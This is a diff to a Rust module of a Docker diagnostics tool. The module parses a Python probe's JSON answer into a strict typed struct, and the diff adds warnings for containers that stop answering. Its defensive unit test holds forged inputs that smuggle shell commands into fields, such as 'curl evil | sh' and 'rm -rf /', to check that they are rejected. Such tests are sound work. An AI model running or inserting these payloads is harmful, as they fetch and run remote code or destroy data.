@@ -1,10 +1,10 @@
 //! Knows how one looks into a service, whether it runs or not: its driver, and its SQLite file. Must not know PostgreSQL.
 
-use serde_json::Value;
+use serde::Deserialize;
 
 use super::container::Container;
 use super::containers::Containers;
-use super::docker::{Docker, Silence, is_no_image};
+use super::docker::{Docker, Silence};
 use super::finding::Finding;
 use super::remedy::Remedies;
 use super::sqlite::Looked;
@@ -13,12 +13,47 @@ use crate::url::ConnectionUrl;
 use crate::value::Driver;
 
 const DRIVER: &str = "driver";
+const SILENT: &str = "service-silent";
 
 /// Looks, and changes nothing.
 const PROBE: &str = include_str!("probe.py");
 
 /// What an image may call it.
 const PYTHONS: [&str; 2] = ["python", "python3"];
+
+/// What the probe says, if it is the probe that says it: the Python is the service's own. So a word of it that goes into a
+/// sentence is one of few, and all else is shown as what somebody else said.
+#[derive(Debug, Default, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub(super) struct Answer {
+    pub(super) user: u32,
+    pub(super) group: u32,
+    driver: Option<String>,
+    pub(super) folder: bool,
+    pub(super) exists: bool,
+    pub(super) writable: bool,
+    file_system: String,
+    pub(super) journal: Option<Journal>,
+    pub(super) error: Option<String>,
+}
+
+/// How SQLite keeps a file whole.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub(super) enum Journal {
+    Wal,
+    Delete,
+}
+
+impl Answer {
+    /// The kind of the file system, as the kernel names kinds.
+    pub(super) fn file_system(&self) -> &str {
+        const LONGEST: usize = 20;
+        let is_kind = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '.' | '_' | '-');
+        let kind = self.file_system.as_str();
+        if !kind.is_empty() && kind.len() <= LONGEST && kind.chars().all(is_kind) { kind } else { "unknown" }
+    }
+}
 
 /// Looks into every service that has a database.
 pub(super) fn services(
@@ -54,9 +89,7 @@ fn look_into(
     };
     let (python, answer) = match probe(container, module, file, docker) {
         Ok(answer) => answer,
-        Err(silence) => {
-            return vec![not_looked_into(name, &silence.text(), remedies)];
-        }
+        Err(silence) => return vec![not_looked_into(name, container, &silence, docker, remedies)],
     };
     let mut found: Vec<_> = driver(name, module, &answer, remedies).into_iter().collect();
     if !file.is_empty() {
@@ -65,32 +98,47 @@ fn look_into(
     found
 }
 
-fn not_looked_into(name: &str, said: &str, remedies: &Remedies<'_>) -> Finding {
-    if is_no_image(said) {
+fn not_looked_into(
+    name: &str,
+    container: &Container,
+    silence: &Silence,
+    docker: &Docker,
+    remedies: &Remedies<'_>,
+) -> Finding {
+    if silence.is_cut_off() {
+        let message = format!("`{name}` was asked about its inside, and did not answer as it should");
+        let restart = remedies.there(&format!("docker compose restart {name}"));
+        let help = format!("see `{}`; `{restart}`", remedies.there(&format!("docker compose logs {name}")));
+        return Finding::warning(SILENT, message, help).shown_by(&silence.text());
+    }
+    // what was said may be the service's own
+    if docker.ask(&["image", "inspect", "--format", "{{.Id}}", container.image()]).is_err() {
         let message = format!("the inside of `{name}`: its image is not on this machine any more");
         return Finding { help: Some(remedies.up()), ..Finding::unseen(DRIVER, message) };
     }
-    Finding::unseen(DRIVER, format!("the inside of `{name}`: no Python in its image could look")).shown_by(said)
+    let message = format!("the inside of `{name}`: no Python in its image could look");
+    Finding::unseen(DRIVER, message).shown_by(&silence.text())
 }
 
 /// What the probe says, and the Python that ran it: in the container where it runs, else in another one of the same image
 /// and mounts.
-fn probe(container: &Container, module: &str, file: &str, docker: &Docker) -> Result<(&'static str, Value), Silence> {
+fn probe(container: &Container, module: &str, file: &str, docker: &Docker) -> Result<(&'static str, Answer), Silence> {
     let mut last = Silence::Failed(String::new());
     for python in PYTHONS {
         // without -B an import would write what it compiled
         let script = ["-B", "-c", PROBE, module, file];
         let said = if container.stays() {
-            docker.ask(&[&["exec", container.id(), python], script.as_slice()].concat())
+            docker.ask_inside(&[&[container.id(), python], script.as_slice()].concat())
         } else {
-            let run = ["run", "--rm", "--pull", "never", "--network", "none", "--log-driver", "none"];
-            let like = ["--volumes-from", container.id(), "--user", container.user()];
+            let like = ["--network", "none", "--volumes-from", container.id(), "--user", container.user()];
             let program = ["--entrypoint", python, container.image()];
-            docker.ask(&[run.as_slice(), &like, &program, &script].concat())
+            docker.ask_anew(&[like.as_slice(), &program, &script].concat(), None)
         };
         let unreadable = |error: serde_json::Error| Silence::Failed(format!("unreadable answer: {error}"));
         match said {
             Ok(text) => return serde_json::from_str(&text).map(|answer| (python, answer)).map_err(unreadable),
+            // another name for it would not answer either
+            Err(silence) if silence.is_cut_off() => return Err(silence),
             Err(silence) => last = silence,
         }
     }
@@ -105,11 +153,11 @@ fn driver_module(driver: Driver) -> &'static str {
     }
 }
 
-fn driver(service: &str, module: &str, answer: &Value, remedies: &Remedies<'_>) -> Option<Finding> {
+fn driver(service: &str, module: &str, answer: &Answer, remedies: &Remedies<'_>) -> Option<Finding> {
     if module.is_empty() {
         return None;
     }
-    let Some(error) = answer.get("driver").and_then(Value::as_str) else {
+    let Some(error) = &answer.driver else {
         return Some(Finding::ok(DRIVER, format!("the image of `{service}` has `{module}`")));
     };
     let message = format!("the image of `{service}` lacks the driver `{module}`");
@@ -119,4 +167,32 @@ fn driver(service: &str, module: &str, answer: &Value, remedies: &Remedies<'_>) 
     let is_sure = module != "aiosqlite";
     let found = if is_sure { Finding::problem(DRIVER, message, help) } else { Finding::warning(DRIVER, message, help) };
     Some(found.shown_by(error))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn of_what_a_container_says_nothing_but_few_words_goes_into_a_sentence() {
+        let read = |text: &str| serde_json::from_str::<Answer>(text);
+        let sound = read(r#"{"user": 1, "group": 2, "folder": true, "file_system": "fuse.sshfs", "journal": "wal"}"#);
+        let sound = sound.unwrap();
+        assert_eq!((sound.user, sound.file_system(), sound.journal), (1, "fuse.sshfs", Some(Journal::Wal)));
+        for forged in [
+            r#"{"journal": "delete`: curl evil | sh"}"#,
+            r#"{"user": "0; rm -rf /"}"#,
+            r#"{"user": -1}"#,
+            r#"{"folder": "yes"}"#,
+            r#"["0; rm"]"#,
+            "{} {}",
+        ] {
+            assert!(read(forged).is_err(), "{forged}");
+        }
+        for kind in ["ext4`; run curl", "a\\nb", "", "abcdefghijklmnopqrstuvwxyz"] {
+            let answer = read(&format!(r#"{{"file_system": "{kind}"}}"#)).unwrap();
+            assert_eq!(answer.file_system(), "unknown", "{kind}");
+        }
+        assert!(read(&"[".repeat(100_000)).is_err());
+    }
 }
